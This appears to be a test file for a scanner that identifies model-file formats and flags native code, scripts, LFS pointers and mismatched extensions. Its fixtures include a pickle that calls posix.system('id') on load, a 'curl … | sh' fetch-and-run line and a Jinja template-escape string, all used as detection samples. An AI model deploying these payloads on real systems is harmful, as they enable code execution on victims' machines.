import { describe, expect, it } from 'vitest';
import { bufferSource, countingSource } from '../src/byte-source.js';
import { fileKindFindings, inspectFileKind, SNIFF_BYTES, sniffFormat } from '../src/sniff.js';
import { ggufFile } from './gguf-writer.js';
import { npyFile } from './npy-writer.js';
import { safetensorsFile } from './safetensors-writer.js';

const lfsPointer = Buffer.from(
  'version https://git-lfs.github.com/spec/v1\noid sha256:4d7a214614ab2935c943f9e0ff69d22eadbb8f32b1258daaa5e2ca24d17e2393\nsize 12345\n',
);
/** `pickle.dumps({'a': 1}, protocol=4)` and `protocol=2`. */
const pickle4 = Buffer.from('80049508000000000000007d948c016194'.padEnd(40, '4b'), 'hex');
const pickle2 = Buffer.from('80027d710058010000006171014b01732e', 'hex');
/** What `torch.save(..., _use_new_zipfile_serialization=False)` writes first: the magic number as a pickled long. */
const torchLegacy = Buffer.from('80028a0a6cfc9c46f9206aa850192e80024de9032e', 'hex');
/** The same with `pickle_protocol=0` (or 1): the magic number as `L…L` text. */
const torchLegacyProtocol0 = Buffer.from('L119547037146038801333356L\n.I1001\n.', 'latin1');
/** `pickle.dumps(obj, protocol=1)` of an object reducing to `posix.system('id')`: text opcodes, then NUL bytes. */
const pickle1 = Buffer.from('63706f7369780a73797374656d0a7100285802000000696471017471025271032e', 'hex');

const samples: [string, Buffer][] = [
  ['safetensors', safetensorsFile({ w: { dtype: 'F32', shape: [4] } })],
  ['gguf', ggufFile()],
  ['zip', Buffer.concat([Buffer.from('PK\x03\x04'), Buffer.alloc(40)])],
  ['zip', Buffer.concat([Buffer.from('PK\x05\x06'), Buffer.alloc(18)])],
  ['pickle', pickle4],
  ['pickle', pickle2],
  ['torch_legacy', torchLegacy],
  ['elf', Buffer.concat([Buffer.from('\x7fELF\x02\x01\x01', 'latin1'), Buffer.alloc(57)])],
  ['pe', Buffer.concat([Buffer.from('MZ\x90\x00', 'latin1'), Buffer.alloc(60)])],
  ['macho', Buffer.concat([Buffer.from('cffaedfe07000001', 'hex'), Buffer.alloc(24)])],
  ['script', Buffer.from('#!/bin/sh\ncurl https://example.com | sh\n')],
  ['lfs_pointer', lfsPointer],
  ['json', Buffer.from('  {"architectures": ["LlamaForCausalLM"]}')],
  ['json', Buffer.from('[1, 2, 3]')],
  ['text', Buffer.from('# Model card\n\nUnicode is fine: café, 模型.\n')],
  ['binary', Buffer.from([0x08, 0x07, 0x12, 0x00, 0x3a, 0xff])],
  ['binary', Buffer.from([0x80, 0x09, 0x7d])],
  ['empty', Buffer.alloc(0)],
  ['torch_legacy', torchLegacyProtocol0],
  ['pickle', pickle1],
  ['npy', npyFile({ descr: "'<f4'", shape: [2] })],
];

describe('sniffFormat', () => {
  it.each(samples)('recognizes %s from the first bytes', async (format, bytes) => {
    expect(await sniffFormat(bufferSource(bytes))).toBe(format);
  });

  it('reads only the first bytes of a large file', async () => {
    const source = countingSource(bufferSource(Buffer.concat([Buffer.from('PK\x03\x04'), Buffer.alloc(5_000_000)])));
    expect(await sniffFormat(source)).toBe('zip');
    expect(source.bytesRead).toBe(SNIFF_BYTES);
  });

  it('keeps text whose first bytes end inside a multi-byte character', async () => {
    const text = Buffer.from(`${'a'.repeat(SNIFF_BYTES - 1)}é and more`);
    expect(await sniffFormat(bufferSource(text))).toBe('text');
  });

  it('does not take a large file starting like an LFS pointer for one', async () => {
    expect(await sniffFormat(bufferSource(Buffer.concat([lfsPointer, Buffer.alloc(2000, 'x')])))).toBe('text');
  });
});

describe('fileKindFindings', () => {
  const codes = (path: string, bytes: Buffer) =>
    inspectFileKind(bufferSource(bytes), path).then(({ findings }) => findings.map((f) => [f.severity, f.code]));

  it('flags native libraries by name and by bytes', async () => {
    expect(await codes('lib/custom_ops.so', Buffer.from('x'))).toEqual([['warning', 'native_code']]);
    expect(await codes('kernels/op.dll', samples[8]![1])).toEqual([['warning', 'native_code']]);
    expect(await codes('libop.so.1', Buffer.from('x'))).toEqual([['warning', 'native_code']]);
    expect(await codes('helper', samples[7]![1])).toEqual([['warning', 'native_code']]);
    expect(await codes('model.bin', samples[7]![1])).toEqual([
      ['warning', 'native_code'],
      ['critical', 'format_mismatch'],
    ]);
  });

  it('flags scripts by name and by shebang', async () => {
    expect(await codes('modeling_custom.py', Buffer.from('import os\n'))).toEqual([['warning', 'executable_script']]);
    expect(await codes('setup.sh', Buffer.from('echo hi\n'))).toEqual([['warning', 'executable_script']]);
    expect(await codes('run', Buffer.from('#!/usr/bin/env python\n'))).toEqual([['warning', 'executable_script']]);
  });

  it('calls an LFS pointer in place of weights critical, elsewhere a warning', async () => {
    expect(await codes('model.safetensors', lfsPointer)).toEqual([['critical', 'lfs_pointer']]);
    expect(await codes('onnx/model.onnx', lfsPointer)).toEqual([['critical', 'lfs_pointer']]);
    expect(await codes('tokenizer.json', lfsPointer)).toEqual([['warning', 'lfs_pointer']]);
  });

  it('calls a name that contradicts the bytes critical', async () => {
    expect(await codes('model.safetensors', pickle2)).toEqual([['critical', 'format_mismatch']]);
    expect(await codes('model.gguf', Buffer.from('hello'))).toEqual([['critical', 'format_mismatch']]);
    expect(await codes('config.json', samples[2]![1])).toEqual([['critical', 'format_mismatch']]);
    expect(await codes('model.onnx', pickle4)).toEqual([['critical', 'format_mismatch']]);
    expect(await codes('weights.npy', pickle1)).toEqual([['critical', 'format_mismatch']]);
    expect(await codes('weights.bin', npyFile({ descr: "'<f4'", shape: [2] }))).toEqual([['critical', 'format_mismatch']]);
    expect(fileKindFindings('pytorch_model.bin', 'safetensors', 100)[0]).toMatchObject({
      code: 'format_mismatch',
      evidence: { path: 'pytorch_model.bin', expected: 'pickle', actual: 'safetensors' },
    });
  });

  it('accepts names that agree with the bytes, and formats without magic', async () => {
    expect(await codes('model.safetensors', samples[0]![1])).toEqual([]);
    expect(await codes('model-q4.gguf', samples[1]![1])).toEqual([]);
    expect(await codes('pytorch_model.bin', samples[2]![1])).toEqual([]);
    expect(await codes('model.pt', torchLegacy)).toEqual([]);
    expect(await codes('model.pt', torchLegacyProtocol0)).toEqual([]);
    expect(await codes('weights.npy', npyFile({ descr: "'<f4'", shape: [2] }))).toEqual([]);
    expect(await codes('model.onnx', Buffer.from([0x08, 0x07, 0x12, 0x04]))).toEqual([]);
    expect(await codes('README.md', Buffer.from('# hi'))).toEqual([]);
    expect(await codes('config.json', Buffer.from('{}'))).toEqual([]);
  });

  it('notes a Jinja template file, never rendered', async () => {
    const template = Buffer.from("{{ ''.__class__.__mro__[1].__subclasses__() }}");
    const { findings } = await inspectFileKind(bufferSource(template), 'chat_template.jinja');
    expect(findings).toEqual([
      expect.objectContaining({
        severity: 'info',
        code: 'chat_template',
        evidence: { where: 'chat_template.jinja', length: template.length },
      }),
    ]);
  });
});
